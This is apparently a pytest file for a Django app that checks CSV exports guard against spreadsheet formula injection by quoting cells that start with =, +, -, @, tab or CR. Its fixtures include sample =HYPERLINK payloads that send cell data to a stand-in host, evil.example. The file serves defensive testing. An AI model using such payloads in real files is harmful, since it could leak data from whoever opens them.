"""CSV exports are safe to open in a spreadsheet: a text cell that would run as a formula gets a
leading quote; plain decimals (negative amounts) stay numbers. Server and dashboard agree."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from decimal import Decimal

import pytest
from django.test import Client

from core.csv_export import spreadsheet_safe
from tests.accounts.helpers import sign_in
from tests.conftest import ROOT

CELLS = [
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-A1", "'-A1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-12.5", "-12.5"),
    ("-0.000000001", "-0.000000001"),
    ("+7", "+7"),
    ("-12", "-12"),
    ("-1e5", "'-1e5"),
    ("- 1", "'- 1"),
    ("12.5", "12.5"),
    ("my-order-1", "my-order-1"),
    ("starting grant", "starting grant"),
    ("", ""),
]


@pytest.mark.parametrize(("cell", "expected"), CELLS)
def test_text_cells_that_start_a_formula_get_a_leading_quote(cell, expected):
    """= + - @ TAB CR at the start of a text cell -> prefixed with ', except a plain decimal."""
    assert spreadsheet_safe(cell) == expected


def test_non_text_values_pass_unchanged():
    """Numbers and None are not text: a negative int stays a number, None stays empty."""
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None and spreadsheet_safe(3) == 3


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_dashboards_csv_export_applies_the_same_rule():
    """static/js/format.js::toCsv (the History tab's export) neutralises exactly the same cells."""
    script = (
        f"import {{ spreadsheetSafe, toCsv }} from {json.dumps(str(ROOT / 'static/js/format.js'))};"
        "const cells = JSON.parse(process.argv[1]);"
        "process.stdout.write(JSON.stringify({safe: cells.map(spreadsheetSafe),"
        " csv: toCsv([{a: '=1+1', b: '-12.5', c: '-A1,x'}], ['a', 'b', 'c'])}));"
    )
    out = subprocess.run(
        ["node", "--input-type=module", "-e", script, json.dumps([cell for cell, _ in CELLS])],
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    result = json.loads(out.stdout)
    assert result["safe"] == [expected for _, expected in CELLS]
    assert result["csv"] == "a,b,c\n'=1+1,-12.5,\"'-A1,x\"\n"


@pytest.mark.django_db
def test_ledger_csv_neutralises_a_formula_memo_and_keeps_negative_amounts_numbers():
    """An ops memo that is a formula comes out of /ledger?format=csv quoted ('=...); the
    adjustment's negative amount is still a plain decimal number in its column."""
    from portfolio.models import LedgerAccount
    from portfolio.services import balance_adjust

    token, user = sign_in(Client())
    memo = '=HYPERLINK("http://evil.example/steal?"&A1,"Refund")'
    balance_adjust(account=LedgerAccount.objects.get(user=user), asset="USD", amount=Decimal("-12.5"), reason=memo)
    response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get("/api/v1/ledger?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    adjustment = next(row for row in rows if row["reason"] == "adjustment")
    assert adjustment["memo"] == "'" + memo
    assert Decimal(adjustment["amount"]) == Decimal("-12.5") and adjustment["amount"].startswith("-12.5")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            if value.startswith("-"):
                Decimal(value)  # only numbers may start with a minus
